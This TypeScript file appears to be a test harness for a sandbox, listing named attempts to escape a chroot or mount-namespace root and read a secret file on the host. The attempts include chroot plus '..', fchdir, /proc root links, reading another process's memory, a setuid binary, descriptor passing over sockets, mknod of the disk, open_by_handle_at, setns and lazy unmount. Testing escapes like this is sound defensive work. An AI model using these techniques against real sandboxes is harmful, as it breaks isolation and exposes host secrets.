/**
 * Every way out of a root that is tried, as a function that is called inside. They have the names of the rows in docs/security.md.
 */
import {
  AT,
  CLONE,
  chdir,
  chroot,
  fchdir,
  MNT,
  O,
  open,
  read,
  readDirectory,
  readFile,
  SyscallError,
  setns,
  umount2,
  unshare,
  write,
} from "../../syscalls.ts";
import { connectTo, makeBlockDevice, memoryOf, openRootOfExt4, pidfd_open, receiveDescriptor } from "./calls.ts";

/** Where it is tried, and what is there. */
export interface Place {
  /** What the root is called: nothing, once it is "/". */
  root: string;
  /** The name of the secret file, which is in the host's "/", and at the top of the disk that the root is on. */
  secret: string;
  /** The device number of that disk. */
  disk: number;
  /** A directory in the root, another one that somebody outside will move, and a name that is still free there. */
  directory: string;
  moving: string;
  node: string;
  /** Descriptors of the host's "/", and of that directory. */
  outside: number;
  below: number;
  /** A process outside that has read the secret. It has the same user and the same capabilities. */
  neighbour: number;
  /** Sockets of a service outside that hands out a descriptor of "/". */
  socket: string;
  abstractSocket: string;
}

/**
 * Tries to get out.
 *
 * @returns What it has read of the secret file.
 * @throws SyscallError where the kernel refuses.
 */
export type Way = (place: Place) => string | undefined;

/** What the secret file says, if ".." leads from a directory to it. */
function seenFrom(directory: number, { secret }: Place): string | undefined {
  const above = Array.from({ length: 10 }, (_, up) => "../".repeat(up));
  return firstOf(above.map((path) => () => Buffer.from(readFile(path + secret, directory)).toString()));
}

/** The same for the working directory, which is "/" again afterwards. */
function seenFromHere(place: Place): string | undefined {
  try {
    return seenFrom(AT.FDCWD, place);
  } finally {
    chdir(`${place.root}/`);
  }
}

function seenFromPath(path: string, place: Place): string | undefined {
  return seenFrom(open(path, O.RDONLY | O.DIRECTORY), place);
}

/** What an action returns, or why the kernel refused it. */
export function orRefused<T>(action: () => T): T | SyscallError {
  try {
    return action();
  } catch (error) {
    if (error instanceof SyscallError) return error;
    throw error;
  }
}

/** The first answer of several. */
function firstOf(attempts: readonly (() => string | undefined)[]): string | undefined {
  for (const attempt of attempts) {
    const seen = orRefused(attempt);
    if (typeof seen === "string") return seen;
  }
  return undefined;
}

/** What the links `root` and `cwd` of each process in a directory of /proc lead to. */
function seenByLinks(directory: string, place: Place): string | undefined {
  const numbers = readDirectory(open(directory, O.RDONLY | O.DIRECTORY)).filter((name) => /^\d+$/.test(name));
  return firstOf(
    numbers.flatMap((number) => ["root", "cwd"].map((link) => () => seenFromPath(`${directory}/${number}/${link}`, place))),
  );
}

/** The secret, where it is among other bytes. */
function secretIn(bytes: Uint8Array): string | undefined {
  return /the secret is \w+/.exec(Buffer.from(bytes).toString("latin1"))?.[0];
}

const chrootAndUp: Way = (place) => {
  chroot(`${place.root}/${place.directory}`);
  for (let step = 0; step < 20; step++) chdir("..");
  chroot(".");
  return seenFromPath("/", place);
};

/** setns(2) makes the namespace's root the process's. It wants a process that shares its root with no other. */
function join(namespace: number, place: Place): string | undefined {
  unshare(CLONE.FS);
  setns(namespace, CLONE.NEWNS);
  return seenFromPath("/", place);
}

/** The descriptors with which a mount namespace can be joined, one's own first: from there on /proc is what it was. */
const namespaces: Readonly<Record<string, () => number>> = {
  "`setns`: `/proc/self/ns/mnt`": () => open("/proc/self/ns/mnt", O.RDONLY),
  "`setns`: a pidfd of oneself": () => pidfd_open(process.pid),
  "`setns`: `/proc/1/ns/mnt`": () => open("/proc/1/ns/mnt", O.RDONLY),
  "`setns`: a pidfd of process 1": () => pidfd_open(1),
};

/** Ways that one process can try one after the other. */
interface Group {
  before?(): void;
  ways: Readonly<Record<string, Way>>;
}

/** A way that matters even if nothing is read: what is mounted at a symlink must not be made outside. */
export const symlinks = "symlinks in the root";

const plain: Group = {
  ways: {
    "`..` from a directory in the root that is open": (place) => seenFrom(place.below, place),

    "`fchdir` to a directory outside that is open": (place) => {
      fchdir(place.outside);
      return seenFromHere(place);
    },

    "a directory that is moved out of the root": (place) => {
      chdir(`${place.root}/${place.moving}`);
      write(1, Buffer.from('{"standing":true}\n'));
      // Somebody outside moves it, and says so.
      read(0, new Uint8Array(1));
      return seenFromHere(place);
    },

    [symlinks]: (place) => firstOf(["absolute", "above"].map((link) => () => seenFromPath(`${place.root}/${link}`, place))),

    "`/proc/1/root`": (place) => seenFromPath("/proc/1/root", place),

    "`/proc/<pid>/root` and `cwd`": (place) => seenByLinks("/proc", place),

    "`/proc/self/task/<tid>/root` and `cwd`": (place) => seenByLinks("/proc/self/task", place),

    "`ptrace`": ({ neighbour }) => {
      const stack = /^\w+-(\w+) .*\[stack\]$/m.exec(Buffer.from(readFile(`/proc/${neighbour}/maps`)).toString());
      const end = Number.parseInt(stack?.[1] ?? "", 16);
      // The environment is at its end.
      return secretIn(memoryOf(neighbour, end - 4096, end));
    },

    "a set-user-ID program in the root": ({ root, secret }) => {
      // It is a copy of cat(1).
      const { stdout } = Bun.spawnSync([`${root}/set-user-id`, `/proc/1/root/${secret}`], {
        stdin: "inherit",
        stdout: "pipe",
        stderr: "inherit",
      });
      return secretIn(stdout);
    },

    "a unix socket in a bound directory": (place) => seenFrom(receiveDescriptor(connectTo(place.socket)), place),

    "an abstract unix socket": (place) => seenFrom(receiveDescriptor(connectTo(place.abstractSocket)), place),

    "`mknod` of the disk": ({ root, disk, node }) => {
      makeBlockDevice(`${root}/${node}`, disk);
      return secretIn(readFile(`${root}/${node}`));
    },

    "`open_by_handle_at`": (place) => seenFrom(openRootOfExt4(open(`${place.root}/`, O.RDONLY | O.DIRECTORY)), place),

    "`chroot`, then `..`": chrootAndUp,
  },
};

const inUserNamespace: Group = {
  ways: {
    "a user namespace, and in it `chroot` and `setns`": (place) => {
      unshare(CLONE.NEWUSER | CLONE.NEWNS);
      const own = open("/proc/self/ns/mnt", O.RDONLY);
      const unmountAndJoin = (): string | undefined => {
        umount2("/", MNT.DETACH);
        return join(own, place);
      };
      return firstOf([() => join(own, place), () => chrootAndUp(place), unmountAndJoin]);
    },
  },
};

const bySetns: Group = {
  ways: Object.fromEntries(
    Object.entries(namespaces).map(([name, openNamespace]): [string, Way] => [name, (place) => join(openNamespace(), place)]),
  ),
};

const opened = new Map<string, number | SyscallError>();

const afterUnmount: Group = {
  before() {
    // With "/", what is mounted on it is gone, too.
    for (const [name, openNamespace] of Object.entries(namespaces)) opened.set(name, orRefused(openNamespace));
    // Where this is refused, what follows are the ways from before once more.
    orRefused(() => umount2("/", MNT.DETACH));
  },
  ways: Object.fromEntries(
    Object.keys(namespaces).map((name): [string, Way] => [
      `\`umount -l /\`, ${name}`,
      (place) => {
        const namespace = opened.get(name);
        if (typeof namespace !== "number") throw namespace;
        return join(namespace, place);
      },
    ]),
  ),
};

/** All of them. The last leaves nothing for who comes after. */
export const groups: readonly Group[] = [plain, inUserNamespace, bySetns, afterUnmount];
